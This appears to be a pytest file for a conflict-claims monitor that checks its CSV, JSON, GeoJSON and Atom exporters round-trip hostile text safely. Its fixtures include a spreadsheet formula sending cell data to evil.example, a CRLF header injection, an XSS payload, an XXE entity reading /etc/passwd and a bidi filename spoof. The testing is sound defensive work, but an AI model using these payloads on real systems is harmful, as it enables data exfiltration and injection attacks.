"""Hostile texts through every format, read back by somebody else's parser: text in, the same text out."""

from __future__ import annotations

import csv
import io
import json
import xml.sax
from collections.abc import Callable
from xml.sax.handler import ContentHandler, feature_external_ges, feature_external_pes

import pytest

from monitor.exports.acled import write_acled
from monitor.exports.atom import Feed, clean, write_feed
from monitor.exports.cells import read_cell
from monitor.exports.entries import Entry
from monitor.exports.json_text import write_features, write_lines, write_list
from monitor.exports.table import write_table
from tests.builders import START

FEED = Feed("https://watch.example/feed.atom", "https://watch.example/claims", "https://watch.example", START)
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "breaks": 'one\r\nSet-Cookie: a=b\n\r\t,";two\u2028three\x85four',
    "bidi": "abc\u202egnp.exe\u2066 \u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0627\u0645\u200f",
    "markup": "<svg onload=alert(1)><script>alert('x')</script><style>*{}</style> &amp; &#x202e;",
    "cdata": "]]> <![CDATA[ x ]]> <!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]> &b;",
    "controls": "a\x01b\x08c\x0bd\x1be\x7ff\x9fg",
    "apostrophe": "'=1+1",
    "scripts": "Ստեփանակերտ, Gəncə, กรุงเทพ, 東京, 𝕏 \U0001f54a",
}


@pytest.fixture(params=sorted(HOSTILE))
def text(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


@pytest.fixture
def entry(make_published: Callable[..., Entry], text: str) -> Entry:
    words = f"{text} At 12:05 the enemy launched an assault."
    return make_published(title=text, text=words, publisher=text, places=[text])


def read_table(text: str) -> dict[str, str]:
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == 1
    return rows[0]


def test_csv_gives_it_back(entry: Entry, text: str) -> None:
    row = read_table("".join(write_table([entry])))
    assert read_cell(row["title"]) == text
    assert read_cell(row["quote"]) == entry.row.claim.quote
    assert row["title"][:1] not in ("=", "\t", "\r", "\n", "@", "+", "-")


def test_acled_shaped_csv_gives_it_back(entry: Entry, text: str) -> None:
    row = read_table("".join(write_acled([entry])))
    assert read_cell(row["statement_title"]) == text
    assert read_cell(row["source"]) == text
    assert read_cell(row["location"]) == text


def test_json_gives_it_back_and_hides_nothing_in_the_bare_file(entry: Entry, text: str) -> None:
    body = "".join(write_list([entry]))
    assert json.loads(body)["items"][0]["statement"]["title"] == text
    assert not set(body) & set("\u202e\u2066\u200f\u2028\x85\x9f\x7f")


def test_json_lines_stay_one_line_a_claim(entry: Entry, text: str) -> None:
    body = "".join(write_lines([entry, entry]))
    lines = body.split("\n")
    assert [json.loads(line)["statement"]["title"] for line in lines[:2]] == [text, text]
    assert lines[2:] == [""]
    assert len(body.splitlines()) == 2


def test_geojson_gives_it_back(entry: Entry, text: str) -> None:
    (feature,) = json.loads("".join(write_features([entry])))["features"]
    assert feature["properties"]["statement"]["publisher"] == text
    assert feature["geometry"] is None


class Texts(ContentHandler):
    """Every element with its text; entities are off, so that nothing is looked up."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str]] = []
        self._open: list[list[str]] = []

    def startElement(self, name: str, attrs: object) -> None:  # noqa: N802 - the name that SAX calls
        self._open.append([])

    def characters(self, content: str) -> None:
        self._open[-1].append(content)

    def endElement(self, name: str) -> None:  # noqa: N802 - the name that SAX calls
        self.found.append((name, "".join(self._open.pop())))

    def skippedEntity(self, name: str) -> None:  # noqa: N802 - the name that SAX calls
        raise AssertionError(name)


def read_xml(body: str) -> list[tuple[str, str]]:
    texts = Texts()
    parser = xml.sax.make_parser()
    parser.setFeature(feature_external_ges, False)
    parser.setFeature(feature_external_pes, False)
    parser.setContentHandler(texts)
    parser.parse(io.BytesIO(body.encode()))
    return texts.found


def test_atom_shows_it_as_text(entry: Entry, text: str) -> None:
    found = read_xml("".join(write_feed([entry], FEED)))
    written = clean(text).replace("\r\n", "\n").replace("\r", "\n")  # what XML makes of line ends
    assert ("name", written) in found
    assert {name for name, _ in found} <= {
        *("feed", "title", "subtitle", "id", "updated", "link", "entry", "published"),
        *("author", "name", "category", "content"),
    }
    assert not any(char in part for _, part in found for char in "\u202e\u2066\u200f\x01\x1b")


def test_a_title_of_a_million_letters_goes_through_every_format(make_published: Callable[..., Entry]) -> None:
    title = "=<b>]]>" + "x" * 1_000_000
    entry = make_published(title=title)
    assert read_cell(_read_large("".join(write_table([entry])))["title"]) == title
    assert json.loads("".join(write_lines([entry])))["statement"]["title"] == title
    contents = [part for name, part in read_xml("".join(write_feed([entry], FEED))) if name == "content"]
    assert title in contents[0]


def _read_large(body: str) -> dict[str, str]:
    before = csv.field_size_limit(2_000_000)
    try:
        return read_table(body)
    finally:
        csv.field_size_limit(before)
